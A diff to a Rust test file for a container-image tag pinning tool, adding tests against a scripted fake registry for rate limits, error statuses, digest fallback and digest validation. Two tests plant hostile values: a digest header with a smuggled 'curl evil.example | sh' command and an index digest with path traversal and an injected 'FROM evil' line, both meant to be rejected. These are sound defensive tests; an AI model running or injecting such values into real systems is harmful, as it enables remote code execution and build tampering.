@@ -6,7 +6,8 @@ mod support;
 use pin::reference::{Digest, ImageRef};
 use pin::resolve::registry::{RegistryConfig, RegistryResolver};
 use pin::resolve::{Lookup, ResolveError, ResolveErrorKind, Resolver, resolve_all};
-use support::{ImageKind, Registry, TokenOptions};
+use support::push::{DOCKER_MANIFEST, OCI_INDEX, sha256_digest};
+use support::{FakeRegistry, FakeResponse, ImageKind, Registry, TokenOptions};
 
 const TWO_ARCH: &[&str] = &["linux/amd64", "linux/arm64/v8"];
 const THREE_ARCH: &[&str] = &["linux/amd64", "linux/arm/v7", "linux/arm64/v8"];
@@ -352,7 +353,13 @@ fn plain_http_is_used_only_for_hosts_listed_as_insecure() {
     let reference = format!("{}/library/python:3.12", registry.host());
     // Not listed: HTTPS to a plain-HTTP server fails instead of falling back.
     let kind = resolve_kind(RegistryConfig::default(), &reference);
-    assert!(matches!(kind, ResolveErrorKind::Network(_)), "{kind:?}");
+    match kind {
+        ResolveErrorKind::Network(message) => assert!(
+            message.contains(&format!("pass --insecure-registry {}", registry.host())),
+            "{message}"
+        ),
+        other => panic!("expected a network error, got {other:?}"),
+    }
     let other_host = RegistryConfig {
         insecure: vec!["127.0.0.1".to_string(), "localhost:5000".to_string()],
         ..RegistryConfig::default()
@@ -397,4 +404,178 @@ fn unreachable_registry_is_a_network_error() {
     };
     let kind = resolve_kind(config, &format!("{host}/library/python:3.12"));
     assert!(matches!(kind, ResolveErrorKind::Network(_)), "{kind:?}");
+}
+
+// What a real registry will not do, from a scripted one.
+
+const PYTHON_TAG: &str = "/v2/library/python/manifests/3.12";
+
+fn fake_config(fake: &FakeRegistry) -> RegistryConfig {
+    RegistryConfig {
+        insecure: vec![fake.host()],
+        ..RegistryConfig::default()
+    }
+}
+
+#[test]
+fn rate_limit_is_reported_with_the_remaining_header() {
+    let fake = FakeRegistry::start();
+    fake.on(
+        "HEAD",
+        PYTHON_TAG,
+        FakeResponse::status(429).header("ratelimit-remaining", "0;w=21600"),
+    );
+    let kind = resolve_kind(
+        fake_config(&fake),
+        &format!("{}/library/python:3.12", fake.host()),
+    );
+    assert_eq!(
+        kind,
+        ResolveErrorKind::RateLimited {
+            remaining: Some("0;w=21600".to_string())
+        }
+    );
+}
+
+#[test]
+fn server_error_is_reported_with_its_status() {
+    let fake = FakeRegistry::start();
+    fake.on("HEAD", PYTHON_TAG, FakeResponse::status(503));
+    let kind = resolve_kind(
+        fake_config(&fake),
+        &format!("{}/library/python:3.12", fake.host()),
+    );
+    assert_eq!(
+        kind,
+        ResolveErrorKind::Status {
+            status: 503,
+            remaining: None
+        }
+    );
+}
+
+#[test]
+fn forbidden_is_unauthorized() {
+    let fake = FakeRegistry::start();
+    fake.on("HEAD", PYTHON_TAG, FakeResponse::status(403));
+    let kind = resolve_kind(
+        fake_config(&fake),
+        &format!("{}/library/python:3.12", fake.host()),
+    );
+    assert!(
+        matches!(kind, ResolveErrorKind::Unauthorized { .. }),
+        "{kind:?}"
+    );
+}
+
+#[test]
+fn hostile_digest_header_is_rejected() {
+    let fake = FakeRegistry::start();
+    let hostile = format!("{} && curl evil.example | sh", sha256_digest(b"x"));
+    fake.on(
+        "HEAD",
+        PYTHON_TAG,
+        FakeResponse::status(200)
+            .header("Content-Type", DOCKER_MANIFEST)
+            .header("Docker-Content-Digest", &hostile),
+    );
+    let kind = resolve_kind(
+        fake_config(&fake),
+        &format!("{}/library/python:3.12", fake.host()),
+    );
+    assert!(
+        matches!(kind, ResolveErrorKind::InvalidDigest(_)),
+        "{kind:?}"
+    );
+}
+
+#[test]
+fn head_without_digest_header_falls_back_to_get_and_hashes_the_exact_bytes() {
+    let fake = FakeRegistry::start();
+    // Docker writes manifests with 3-space indentation: re-serialising would change it.
+    let manifest = b"{\n   \"schemaVersion\": 2,\n   \"mediaType\": \"application/vnd.docker.distribution.manifest.v2+json\"\n}";
+    fake.on(
+        "HEAD",
+        PYTHON_TAG,
+        FakeResponse::status(200).header("Content-Type", DOCKER_MANIFEST),
+    );
+    fake.on(
+        "GET",
+        PYTHON_TAG,
+        FakeResponse::status(200)
+            .header("Content-Type", DOCKER_MANIFEST)
+            .body(manifest),
+    );
+    let digest = resolve(
+        fake_config(&fake),
+        &format!("{}/library/python:3.12", fake.host()),
+    );
+    assert_eq!(digest.unwrap().as_str(), sha256_digest(manifest));
+    let requests = fake.requests();
+    assert_eq!(
+        requests,
+        [
+            "GET /v2/",
+            &format!("HEAD {PYTHON_TAG}"),
+            &format!("GET {PYTHON_TAG}")
+        ],
+    );
+}
+
+#[test]
+fn hostile_child_digest_in_an_index_is_rejected() {
+    let fake = FakeRegistry::start();
+    let index = format!(
+        r#"{{"schemaVersion":2,"mediaType":"{OCI_INDEX}","manifests":[{{"mediaType":"application/vnd.oci.image.manifest.v1+json","size":2,"digest":"sha256:../../x\nFROM evil","platform":{{"os":"linux","architecture":"amd64"}}}}]}}"#
+    );
+    let digest = sha256_digest(index.as_bytes());
+    fake.on(
+        "HEAD",
+        PYTHON_TAG,
+        FakeResponse::status(200)
+            .header("Content-Type", OCI_INDEX)
+            .header("Docker-Content-Digest", &digest),
+    );
+    fake.on(
+        "GET",
+        &format!("/v2/library/python/manifests/{digest}"),
+        FakeResponse::status(200)
+            .header("Content-Type", OCI_INDEX)
+            .body(index.as_bytes()),
+    );
+    let config = RegistryConfig {
+        platform: Some("linux/amd64".parse().unwrap()),
+        ..fake_config(&fake)
+    };
+    let kind = resolve_kind(config, &format!("{}/library/python:3.12", fake.host()));
+    assert!(
+        matches!(kind, ResolveErrorKind::InvalidDigest(_)),
+        "{kind:?}"
+    );
+}
+
+#[test]
+fn index_whose_bytes_do_not_match_its_digest_is_rejected() {
+    let fake = FakeRegistry::start();
+    let claimed = sha256_digest(b"something else");
+    fake.on(
+        "HEAD",
+        PYTHON_TAG,
+        FakeResponse::status(200)
+            .header("Content-Type", OCI_INDEX)
+            .header("Docker-Content-Digest", &claimed),
+    );
+    fake.on(
+        "GET",
+        &format!("/v2/library/python/manifests/{claimed}"),
+        FakeResponse::status(200)
+            .header("Content-Type", OCI_INDEX)
+            .body(br#"{"schemaVersion":2,"manifests":[]}"#),
+    );
+    let config = RegistryConfig {
+        platform: Some("linux/amd64".parse().unwrap()),
+        ..fake_config(&fake)
+    };
+    let kind = resolve_kind(config, &format!("{}/library/python:3.12", fake.host()));
+    assert!(matches!(kind, ResolveErrorKind::Protocol(_)), "{kind:?}");
 }
